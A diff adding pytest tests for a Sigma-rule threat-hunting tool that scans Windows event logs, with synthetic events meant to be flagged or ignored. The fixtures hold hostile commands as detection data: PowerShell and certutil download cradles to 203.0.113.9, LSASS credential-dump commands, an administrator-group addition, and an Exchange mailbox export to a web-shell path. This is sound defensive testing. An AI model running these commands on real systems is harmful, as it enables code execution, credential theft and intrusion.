@@ -1,0 +1,250 @@
+"""exhunt's Sigma rules over EVTX written with the published field layouts, and --sigma."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from typer.testing import CliRunner
+
+from exhunt.checks.base import HuntContext
+from exhunt.checks.sigma import SigmaEvents, event_row, load_sigma
+from exhunt.cli import app
+from exhunt.hunt.engine import hunt
+from exhunt.hunt.files import FileStageSettings
+from exhunt.lab import event_layouts as ev
+from exhunt.lab.evtx_writer import EventSpec, write_evtx
+from exhunt.model import Finding, LogRecord, RecordKind, Severity, Verdict
+
+T = datetime(2021, 3, 4, 1, 0, tzinfo=UTC)
+SYS32 = "C:\\Windows\\System32\\"
+W3WP = SYS32 + "inetsrv\\w3wp.exe"
+
+
+def hunt_events(tmp_path: Path, logs: dict[str, list[EventSpec]],
+                sigma: tuple[str, ...] = ()) -> list[Finding]:
+    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, events in logs.items():
+        write_evtx(folder / name, events)
+    report = hunt(str(tmp_path / "copy"), files=FileStageSettings(sigma_dirs=sigma))
+    return report.findings
+
+
+def checks(findings: list[Finding]) -> dict[str, Finding]:
+    return {f.check: f for f in findings}
+
+
+# Each case: one event that must be flagged (check id, least severity), following its layout.
+FLAGGED = [
+    ("Sysmon.evtx", ev.sysmon_process_access(T, "C:\\Users\\adm\\Desktop\\mimikatz.exe",
+                                             SYS32 + "lsass.exe", "0x1010"),
+     "postexploit.lsass-access", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_process_access(T, SYS32 + "rundll32.exe", SYS32 + "lsass.exe",
+                                             "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
+                                             "C:\\Windows\\System32\\comsvcs.dll+2f2a1"),
+     "postexploit.lsass-access", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_file_create(T, SYS32 + "taskmgr.exe",
+                                          "C:\\Users\\adm\\AppData\\Local\\Temp\\lsass.DMP"),
+     "postexploit.lsass-dump-file", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_file_create(T, "C:\\Users\\Public\\Outflank-Dumpert.exe",
+                                          "C:\\Windows\\Temp\\dumpert.dmp"),
+     "postexploit.lsass-dump-file", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_file_create(T, "C:\\tools\\procdump64.exe",
+                                          "C:\\tools\\lsass.exe_210304_010000.dmp"),
+     "postexploit.lsass-dump-file", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_file_create(T, SYS32 + "rdrleakdiag.exe",
+                                          "C:\\Windows\\Temp\\minidump_652.dmp"),
+     "postexploit.lsass-dump-file", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "rdrleakdiag.exe",
+                                      "rdrleakdiag.exe /p 652 /o C:\\Windows\\Temp /fullmemdmp "
+                                      "/wait 1", SYS32 + "cmd.exe"),
+     "postexploit.lsass-dump-tool", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_process(T, "C:\\Users\\Public\\PPLdump.exe",
+                                      "PPLdump.exe lsass.exe lsass.dmp", SYS32 + "cmd.exe"),
+     "postexploit.lsass-dump-tool", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "lsass.exe", SYS32 + "lsass.exe",
+                                      SYS32 + "lsass.exe"),
+     "postexploit.lsass-dump-tool", Severity.HIGH),
+    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "notepad.exe", "notepad.exe", W3WP),
+     "postexploit.web-spawned-process", Severity.HIGH),
+    ("Security.evtx", ev.security_process(T, SYS32 + "cmd.exe", "cmd /c whoami", W3WP),
+     "postexploit.web-spawned-process", Severity.HIGH),
+    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.script_block(
+        T, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"),
+     "postexploit.download-cradle", Severity.MEDIUM),
+    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.pipeline_module(
+        T, "Invoke-WebRequest", 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\n'
+        'ParameterBinding(Invoke-WebRequest): name="Uri"; value="http://203.0.113.9/x"'),
+     "postexploit.download-cradle", Severity.MEDIUM),
+    ("Windows PowerShell.evtx", ev.pipeline_classic(
+        T, "Start-BitsTransfer", 'CommandInvocation(Start-BitsTransfer): "Start-BitsTransfer"'),
+     "postexploit.download-cradle", Severity.MEDIUM),
+    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "certutil.exe",
+                                      "certutil -urlcache -split -f http://203.0.113.9/x.exe x",
+                                      SYS32 + "cmd.exe"),
+     "postexploit.download-cradle", Severity.MEDIUM),
+    ("Microsoft-Windows-TaskScheduler%4Operational.evtx", ev.task_process(
+        T, "\\Updater", "C:\\Windows\\Temp\\upd.exe"), "postexploit.task-odd-path",
+     Severity.MEDIUM),
+    ("System.evtx", ev.service_installed(T, "svc1", "%COMSPEC% /C echo x > C:\\Windows\\Temp\\o"),
+     "postexploit.service-odd-path", Severity.HIGH),
+    ("Security.evtx", ev.security_process(T, SYS32 + "net.exe",
+                                          "net localgroup administrators eve /add",
+                                          SYS32 + "cmd.exe"),
+     "postexploit.net-user-add", Severity.MEDIUM),
+    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.script_block(
+        T, "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot"
+           "\\aspnet_client\\x.aspx"), "postexploit.exchange-export-shell", Severity.HIGH),
+]
+
+
+@pytest.mark.parametrize(("log", "event", "check", "least"), FLAGGED,
+                         ids=[f"{c[2]}-{i}" for i, c in enumerate(FLAGGED)])
+def test_each_rule_flags_its_event(tmp_path: Path, log: str, event: EventSpec, check: str,
+                                   least: Severity) -> None:
+    found = checks(hunt_events(tmp_path, {log: [event]}))
+    assert check in found, sorted(found)
+    assert found[check].severity >= least
+
+
+QUIET = [
+    ("Sysmon.evtx", ev.sysmon_process_access(T, SYS32 + "csrss.exe", SYS32 + "lsass.exe",
+                                             "0x1fffff")),
+    ("Sysmon.evtx", ev.sysmon_process_access(T, "C:\\tools\\monitor.exe", SYS32 + "lsass.exe",
+                                             "0x1000")),  # query-limited: no memory read
+    ("Sysmon.evtx", ev.sysmon_file_create(T, SYS32 + "svchost.exe",
+                                          "C:\\Windows\\Temp\\report.txt")),
+    ("Sysmon.evtx", ev.sysmon_process(
+        T, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe /noconfig",
+        W3WP)),
+    ("Security.evtx", ev.security_process(T, SYS32 + "conhost.exe", "conhost.exe 0xffffffff",
+                                          W3WP)),
+    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.script_block(
+        T, "Get-Mailbox -ResultSize Unlimited | Select-Object Name")),
+    ("Microsoft-Windows-TaskScheduler%4Operational.evtx", ev.task_process(
+        T, "\\Microsoft\\Windows\\Defrag", SYS32 + "defrag.exe")),
+    ("System.evtx", ev.service_installed(T, "vmtools", "\"C:\\Program Files\\VMware\\"
+                                         "VMware Tools\\vmtoolsd.exe\"")),
+]
+
+
+@pytest.mark.parametrize(("log", "event"), QUIET)
+def test_everyday_events_stay_quiet(tmp_path: Path, log: str, event: EventSpec) -> None:
+    found = hunt_events(tmp_path, {log: [event]})
+    assert not [f for f in found if f.severity > Severity.INFO], found
+
+
+def test_lsass_theft_alone_is_high_host_activity_not_an_exchange_stage(tmp_path: Path) -> None:
+    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
+    folder.mkdir(parents=True)
+    write_evtx(folder / "Sysmon.evtx", [ev.sysmon_process_access(
+        T, "C:\\Users\\adm\\Desktop\\x.exe", SYS32 + "lsass.exe", "0x1410")])
+    report = hunt(str(tmp_path / "copy"))
+    assert report.verdict is Verdict.CLEAN
+    assert [f.severity for f in report.host_activity] == [Severity.HIGH]
+
+
+def test_context_rules_rise_with_a_high_finding(tmp_path: Path) -> None:
+    created = ev.account_created(T, "support01", "S-1-5-21-1-2-3-1107")
+    quiet = checks(hunt_events(tmp_path / "a", {"Security.evtx": [created]}))
+    assert quiet["postexploit.account-created"].severity is Severity.INFO
+    loud = checks(hunt_events(tmp_path / "b", {"Security.evtx": [
+        created, ev.security_process(T + timedelta(minutes=5), SYS32 + "cmd.exe", "cmd /c whoami",
+                                     W3WP)]}))
+    assert loud["postexploit.account-created"].severity is Severity.HIGH
+
+
+def test_user_rules_from_a_folder_and_broken_ones_named(tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "whoami.yml").write_text("""title: Whoami run
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {Image|endswith: '\\\\whoami.exe'}
+  condition: sel
+level: low
+""")
+    (rules / "linux.yml").write_text("""title: Linux thing
+logsource: {product: linux, category: process_creation}
+detection: {sel: {Image: /bin/sh}, condition: sel}
+""")
+    (rules / "broken.yml").write_text("title: [unclosed\n")
+    loaded = load_sigma((str(rules),), builtin=False)
+    assert [r.name for r in loaded.rules] == ["sigma.whoami"]
+    problems = " ".join(p.artifact + " " + p.message for p in loaded.problems)
+    assert "broken.yml" in problems and "1 Sigma rules skipped" in problems
+    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
+    folder.mkdir(parents=True)
+    write_evtx(folder / "Sysmon.evtx", [ev.sysmon_process(T, SYS32 + "whoami.exe", "whoami",
+                                                          SYS32 + "cmd.exe")])
+    result = CliRunner().invoke(app, ["hunt", str(tmp_path / "copy"), "--sigma", str(rules),
+                                      "--format", "json"])
+    assert '"check": "sigma.whoami"' in result.output and "broken.yml" in result.output
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.dictionaries(st.text(min_size=1, max_size=20), st.text(max_size=200), max_size=12),
+       st.sampled_from(["Security", "Microsoft-Windows-Sysmon/Operational", "System", "x"]),
+       st.sampled_from(["1", "10", "11", "4104", "4688", "7045", "junk"]))
+def test_hostile_events_never_break_the_rules(fields: dict[str, str], channel: str,
+                                              event_id: str) -> None:
+    data = {f"Data.{k}": v for k, v in fields.items()}
+    record = LogRecord(RecordKind.EVENT, "x.evtx", 1, None,
+                       {**data, "Channel": channel, "EventID": event_id})
+    check = SigmaEvents(HuntContext())
+    assert list(check.feed(record)) == []
+    for finding in check.finalize():
+        assert finding.check.startswith("postexploit.")
+    assert event_row(record)["exhunt_category"] is not None
+
+
+def test_prefilter_literals_come_from_what_a_match_must_hold(tmp_path: Path) -> None:
+    from sigma.collection import SigmaCollection
+
+    from exhunt.checks.sigma import required_literals
+
+    def literals(detection: str) -> set[str] | None:
+        rule = SigmaCollection.from_yaml("title: t\nlogsource: {product: windows, category: "
+                                         "process_creation}\ndetection:\n" + detection).rules[0]
+        return required_literals(rule)
+
+    assert literals("  a: {Image|endswith: '\\\\whoami.exe'}\n  b: {User: x}\n"
+                    "  condition: a and not b\n") == {"\\whoami.exe"}
+    assert literals("  a: {CommandLine|contains: ['mimikatz', 'sekurlsa']}\n"
+                    "  b: {Image|endswith: '\\\\procdump.exe'}\n  condition: a or b\n") == {
+        "mimikatz", "sekurlsa", "\\procdump.exe"}
+    # Nothing an event must hold: the rule sees every event of its channels.
+    assert literals("  a: {CommandLine|re: 'x+y'}\n  condition: a\n") is None
+    assert literals("  sel_a: {Image: abc.exe}\n  sel_b: {Image: def.exe}\n"
+                    "  condition: 1 of sel_*\n") is None
+    assert literals("  a: {Image: abc.exe}\n  condition: not a\n") is None
+
+
+def test_keyword_rules_search_the_whole_event(tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "export.yml").write_text("""title: Mailbox exported to a page
+logsource: {product: windows, service: msexchange-management}
+detection:
+  keywords:
+    '|all': ['New-MailboxExportRequest', '.aspx']
+  condition: keywords
+level: critical
+""")
+    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
+    folder.mkdir(parents=True)
+    write_evtx(folder / "MSExchange Management.evtx", [
+        EventSpec("MSExchange Management", "MSExchange CmdletLogs", 1, 4, T, "ex01", [
+            "New-MailboxExportRequest", '-Mailbox "ceo" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\'
+            'wwwroot\\aspnet_client\\x.aspx"', "CORP/Users/admin", "S-1-5-21"]),
+        EventSpec("MSExchange Management", "MSExchange CmdletLogs", 1, 4, T, "ex01", [
+            "New-MailboxExportRequest", '-Mailbox "ceo" -FilePath "\\\\fs\\pst\\ceo.pst"',
+            "CORP/Users/admin", "S-1-5-21"])])
+    report = hunt(str(tmp_path / "copy"), files=FileStageSettings(sigma_dirs=(str(rules),)))
+    found = [f for f in report.findings if f.check == "sigma.export"]
+    assert len(found) == 1 and "x.aspx" in found[0].evidence
+    assert found[0].severity is Severity.CRITICAL
